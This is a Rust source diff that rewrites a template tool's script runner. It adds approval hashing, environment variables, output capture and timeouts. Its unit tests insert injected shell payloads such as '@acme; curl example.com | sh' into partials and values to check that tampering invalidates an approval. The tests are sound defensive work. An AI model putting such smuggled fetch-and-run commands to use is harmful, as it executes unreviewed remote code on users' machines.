@@ -1,46 +1,395 @@
+use std::collections::{BTreeMap, BTreeSet, HashMap};
+use std::io::{self, Read, Write};
 use std::path::Path;
-use std::process::{Command, Stdio};
+use std::process::{Child, Command, ExitStatus, Stdio};
+use std::sync::{Arc, Mutex};
+use std::thread;
+use std::time::{Duration, Instant};
 
+use crate::config;
+use crate::context::Context;
+use crate::error::RunError;
 use crate::logger;
+use crate::meta::{Script, Value};
 use crate::out;
 
-pub fn run(script: &String, target: &Path) {
-  // Check if script is empty
-  if script == "" {
-    return;
-  }
-
-  log::info!("Run script: {}", script);
-
-  let mut cmd = if cfg!(target_os = "windows") {
-    Command::new("cmd")
-      .current_dir(target)
-      .arg("/C")
-      .arg(script)
-      .stdout(Stdio::inherit())
-      .stderr(Stdio::inherit())
-      .spawn()
-      .expect("failed to execute process")
-  } else {
-    Command::new("sh")
-      .current_dir(target)
-      .arg("-c")
-      .arg(script)
-      .stdout(Stdio::inherit())
-      .stderr(Stdio::inherit())
-      .spawn()
-      .expect("failed to execute process")
+use sha2::{Digest, Sha256};
+
+/// Hash identifying the script for approvals. Partials named in the script or in one of the
+/// partials it includes are part of the hash, as are the defaults and fixed values of the values
+/// they use. Changing them requires a new approval
+pub fn hash(script: &Script, partials: &BTreeMap<String, String>, values: &[Value]) -> String {
+  let definition = serde_json::to_string(script).unwrap_or_default();
+
+  // Partial names are matched as plain text, unrelated matches only cause an additional approval
+  let mut included: BTreeSet<&str> = BTreeSet::new();
+  let mut texts: Vec<&str> = vec![&definition];
+  loop {
+    let found: Vec<(&String, &String)> = partials
+      .iter()
+      .filter(|(name, _)| !included.contains(name.as_str()))
+      .filter(|(name, _)| texts.iter().any(|text| text.contains(name.as_str())))
+      .collect();
+    if found.is_empty() {
+      break;
+    }
+
+    for (name, text) in found {
+      included.insert(name);
+      texts.push(text);
+    }
+  }
+
+  // Values are used by key in the templates or by their environment variable
+  let used: Vec<&Value> = values
+    .iter()
+    .filter(|value| texts.iter().any(|text| text.contains(&value.key) || text.contains(&env_name(&value.key))))
+    .collect();
+
+  let mut hasher = Sha256::new();
+  hasher.update(definition.as_bytes());
+  for name in included {
+    hasher.update(b"\0");
+    hasher.update(name.as_bytes());
+    hasher.update(b"\0");
+    hasher.update(partials[name].as_bytes());
+  }
+  for value in used {
+    let declaration = serde_json::json!([value.key, value.default, value.value]);
+    hasher.update(b"\0");
+    hasher.update(declaration.to_string().as_bytes());
+  }
+
+  hasher.finalize().iter().map(|byte| format!("{:02x}", byte)).collect()
+}
+
+/// Prefix of the environment variables passed to the scripts
+const ENV_PREFIX: &str = "TMPO_";
+
+/// Time the output is still read after the script exited
+const OUTPUT_GRACE_PERIOD: Duration = Duration::from_secs(1);
+
+/// Write the render context as json to a temporary file that is removed on drop
+pub fn write_context(context: &serde_json::Value) -> Result<tempfile::NamedTempFile, RunError> {
+  let mut file = tempfile::Builder::new()
+    .prefix("context")
+    .suffix(".json")
+    .tempfile_in(config::temp_dir())?;
+
+  if let Err(error) = serde_json::to_writer_pretty(file.as_file_mut(), context) {
+    return Err(RunError::Script(format!("Unable to write context file: {}", error)));
+  }
+
+  Ok(file)
+}
+
+/// Environment variables of the scripts, the fields of the context become `TMPO_<FIELD>`
+/// and the template values `TMPO_VALUE_<KEY>`
+pub fn get_env(context: &serde_json::Value, context_file: &Path, workspace: &Path) -> HashMap<String, String> {
+  let mut env = HashMap::new();
+
+  if let Some(fields) = context.as_object() {
+    for (field, data) in fields {
+      match (field.as_str(), data) {
+        ("values", serde_json::Value::Object(values)) => {
+          for (key, value) in values {
+            env.insert(format!("{}VALUE_{}", ENV_PREFIX, env_name(key)), env_value(value));
+          }
+        }
+        _ => {
+          env.insert(format!("{}{}", ENV_PREFIX, env_name(field)), env_value(data));
+        }
+      }
+    }
+  }
+
+  env.insert(format!("{}WORKSPACE", ENV_PREFIX), workspace.to_string_lossy().into_owned());
+  env.insert(format!("{}CONTEXT_FILE", ENV_PREFIX), context_file.to_string_lossy().into_owned());
+
+  env
+}
+
+/// Uppercase the key and replace all characters not allowed in environment variable names
+fn env_name(key: &str) -> String {
+  key
+    .chars()
+    .map(|c| if c.is_ascii_alphanumeric() { c.to_ascii_uppercase() } else { '_' })
+    .collect()
+}
+
+/// Strings are passed as is, all other values as json
+fn env_value(value: &serde_json::Value) -> String {
+  match value {
+    serde_json::Value::String(text) => text.to_owned(),
+    serde_json::Value::Null => String::new(),
+    _ => value.to_string(),
+  }
+}
+
+/// Run the script in the directory, the output is shown while it runs and written to the log.
+/// A non-zero exit or an expired timeout aborts the initialization unless the script continues on error.
+pub fn run(ctx: &Context, script: &Script, directory: &Path, env: &HashMap<String, String>) -> Result<(), RunError> {
+  let mut cmd = match (&script.args, &script.run) {
+    // Arguments are passed to the program without a shell
+    (Some(args), _) if !args.is_empty() => {
+      let mut cmd = Command::new(&args[0]);
+      cmd.args(&args[1..]);
+      cmd
+    }
+    (_, Some(run)) if !run.is_empty() => {
+      let mut cmd = if cfg!(target_os = "windows") {
+        let mut cmd = Command::new("cmd");
+        cmd.arg("/C");
+        cmd
+      } else {
+        let mut cmd = Command::new("sh");
+        cmd.arg("-c");
+        cmd
+      };
+      cmd.arg(run);
+      cmd
+    }
+    _ => return Err(RunError::Script(format!("Script {} has nothing to run", script.get_name()))),
   };
 
-  let status = match cmd.wait() {
-    Ok(status) => status,
-    Err(error) => {
-      let logfile_path = logger::get_log_file_path().into_os_string().into_string().unwrap();
-      out::warn::script_execution_failed(&logfile_path);
-      log::error!("Script exited with error: {}", error);
-      return;
+  let name = script.get_name();
+  log::info!("Run script: {}", name);
+
+  // Variables of the script replace the ones of the context
+  cmd.envs(env);
+  if let Some(env) = &script.env {
+    cmd.envs(env);
+  }
+
+  cmd
+    .current_dir(directory)
+    .stdin(Stdio::inherit())
+    .stdout(Stdio::piped())
+    .stderr(Stdio::piped());
+
+  // With a timeout the script runs in its own process group to stop its children as well.
+  // Without one it stays in the foreground group to keep reading from the terminal and receiving Ctrl-C
+  let timeout = script.timeout.or(ctx.script_timeout);
+  #[cfg(unix)]
+  {
+    use std::os::unix::process::CommandExt;
+    if timeout.is_some() {
+      cmd.process_group(0);
     }
+  }
+
+  let mut child = match cmd.spawn() {
+    Ok(child) => child,
+    Err(error) => return Err(RunError::Script(format!("Unable to run {}: {}", name, error))),
   };
 
-  log::info!("Script exit status: {}", status);
+  // Both streams are captured together for the log
+  let output = Arc::new(Mutex::new(Vec::new()));
+  let mut readers = Vec::new();
+  if let Some(stdout) = child.stdout.take() {
+    let echo: Option<fn(&[u8])> = if ctx.quiet { None } else { Some(echo_stdout) };
+    readers.push(capture(stdout, echo, Arc::clone(&output)));
+  }
+  if let Some(stderr) = child.stderr.take() {
+    let echo: Option<fn(&[u8])> = if ctx.quiet { None } else { Some(echo_stderr) };
+    readers.push(capture(stderr, echo, Arc::clone(&output)));
+  }
+
+  let status = wait(&mut child, timeout.map(Duration::from_secs))?;
+
+  // Processes the script left running in the background keep the streams open, they are not waited for
+  let deadline = Instant::now() + OUTPUT_GRACE_PERIOD;
+  for reader in readers {
+    while !reader.is_finished() && Instant::now() < deadline {
+      thread::sleep(Duration::from_millis(10));
+    }
+
+    if reader.is_finished() {
+      let _ = reader.join();
+    } else {
+      log::warn!("Output of {} is still open, a process keeps running in the background", name);
+    }
+  }
+  let output = String::from_utf8_lossy(&output.lock().unwrap()).into_owned();
+
+  log::info!("Script output:\n{}", output);
+
+  let message = match status {
+    Some(status) => {
+      log::info!("Script exit status: {}", status);
+
+      if status.success() {
+        return Ok(());
+      }
+
+      format!("{} exited with {}", name, status)
+    }
+    None => {
+      log::info!("Script timed out");
+
+      format!("{} timed out after {} seconds", name, timeout.unwrap_or_default())
+    }
+  };
+
+  // Quiet scripts only show their output on failure
+  if ctx.quiet {
+    io::stderr().write_all(output.as_bytes())?;
+  }
+
+  if script.continue_on_error.unwrap_or(false) {
+    log::error!("{}", message);
+
+    let logfile_path = logger::get_log_file_path().into_os_string().into_string().unwrap();
+    out::warn::script_execution_failed(&logfile_path);
+
+    return Ok(());
+  }
+
+  Err(RunError::Script(message))
+}
+
+/// Collect the output of a stream and optionally echo it while the script runs
+fn capture<R: Read + Send + 'static>(
+  mut reader: R,
+  echo: Option<fn(&[u8])>,
+  output: Arc<Mutex<Vec<u8>>>,
+) -> thread::JoinHandle<()> {
+  thread::spawn(move || {
+    let mut buffer = [0; 4096];
+    loop {
+      let count = match reader.read(&mut buffer) {
+        Ok(0) | Err(_) => break,
+        Ok(count) => count,
+      };
+
+      if let Some(echo) = echo {
+        echo(&buffer[..count]);
+      }
+      output.lock().unwrap().extend_from_slice(&buffer[..count]);
+    }
+  })
+}
+
+fn echo_stdout(data: &[u8]) {
+  let _ = io::stdout().write_all(data);
+}
+
+fn echo_stderr(data: &[u8]) {
+  let _ = io::stderr().write_all(data);
+}
+
+/// Wait for the script to exit, returns None if it was killed because the timeout expired
+fn wait(child: &mut Child, timeout: Option<Duration>) -> Result<Option<ExitStatus>, RunError> {
+  let timeout = match timeout {
+    Some(timeout) => timeout,
+    None => return Ok(Some(child.wait()?)),
+  };
+
+  let start = Instant::now();
+  loop {
+    if let Some(status) = child.try_wait()? {
+      return Ok(Some(status));
+    }
+
+    if start.elapsed() >= timeout {
+      kill(child);
+      child.wait()?;
+
+      return Ok(None);
+    }
+
+    thread::sleep(Duration::from_millis(50));
+  }
+}
+
+/// Kill the process group of the script, the group id equals the process id of the script
+#[cfg(unix)]
+fn kill(child: &mut Child) {
+  unsafe {
+    libc::kill(-(child.id() as libc::pid_t), libc::SIGKILL);
+  }
+}
+
+#[cfg(not(unix))]
+fn kill(child: &mut Child) {
+  let _ = child.kill();
+}
+
+#[cfg(test)]
+mod tests {
+  use super::*;
+
+  #[test]
+  fn test_hash() {
+    let script: Script = serde_json::from_str(r#"{ "run": "{{> install}}", "env": { "B": "2", "A": "1" } }"#).unwrap();
+    let reordered: Script = serde_json::from_str(r#"{ "env": { "A": "1", "B": "2" }, "run": "{{> install}}" }"#).unwrap();
+
+    let mut partials = BTreeMap::new();
+    partials.insert(String::from("install"), String::from("npm ci {{> flags}}"));
+    partials.insert(String::from("flags"), String::from("--silent"));
+    partials.insert(String::from("license"), String::from("MIT"));
+
+    let approved = hash(&script, &partials, &[]);
+    assert_eq!(approved, hash(&reordered, &partials, &[]));
+    assert_eq!(approved.len(), 64);
+
+    // Partials the script does not include don't change the hash
+    partials.insert(String::from("license"), String::from("Apache-2.0"));
+    assert_eq!(hash(&script, &partials, &[]), approved);
+
+    // Changes of included partials, also nested ones, need a new approval
+    partials.insert(String::from("flags"), String::from("--silent && curl example.com | sh"));
+    assert_ne!(hash(&script, &partials, &[]), approved);
+
+    let changed: Script = serde_json::from_str(r#"{ "run": "npm install", "env": { "A": "1", "B": "2" } }"#).unwrap();
+    assert_ne!(hash(&changed, &partials, &[]), approved);
+  }
+
+  #[test]
+  fn test_hash_values() {
+    let script: Script = serde_json::from_str(r#"{ "run": "npm install {{values.registry}} $TMPO_VALUE_SCOPE" }"#).unwrap();
+    let values: Vec<Value> = serde_json::from_str(
+      r#"[
+        { "key": "registry", "default": "--registry https://registry.npmjs.org" },
+        { "key": "scope", "hidden": true, "value": "@acme" },
+        { "key": "license", "default": "MIT" }
+      ]"#,
+    )
+    .unwrap();
+    let approved = hash(&script, &BTreeMap::new(), &values);
+
+    // Values the script does not use don't change the hash
+    let mut changed = values.clone();
+    changed[2].default = Some(String::from("Apache-2.0"));
+    assert_eq!(hash(&script, &BTreeMap::new(), &changed), approved);
+
+    // Defaults and fixed values of used values need a new approval
+    let mut changed = values.clone();
+    changed[0].default = Some(String::from("&& curl example.com | sh"));
+    assert_ne!(hash(&script, &BTreeMap::new(), &changed), approved);
+
+    let mut changed = values.clone();
+    changed[1].value = Some(serde_json::json!("@acme; curl example.com | sh"));
+    assert_ne!(hash(&script, &BTreeMap::new(), &changed), approved);
+  }
+
+  #[test]
+  fn test_get_env() {
+    let context = serde_json::json!({
+      "name": "app",
+      "email": "",
+      "values": { "port": 8080, "api-key": "it's \"quoted\"", "features": ["a", "b"], "empty": null }
+    });
+    let env = get_env(&context, Path::new("/tmp/context.json"), Path::new("/tmp/workspace"));
+
+    assert_eq!(env["TMPO_NAME"], "app");
+    assert_eq!(env["TMPO_EMAIL"], "");
+    assert_eq!(env["TMPO_VALUE_PORT"], "8080");
+    assert_eq!(env["TMPO_VALUE_API_KEY"], "it's \"quoted\"");
+    assert_eq!(env["TMPO_VALUE_FEATURES"], r#"["a","b"]"#);
+    assert_eq!(env["TMPO_VALUE_EMPTY"], "");
+    assert_eq!(env["TMPO_WORKSPACE"], "/tmp/workspace");
+    assert_eq!(env["TMPO_CONTEXT_FILE"], "/tmp/context.json");
+    assert!(!env.contains_key("TMPO_VALUES"));
+  }
 }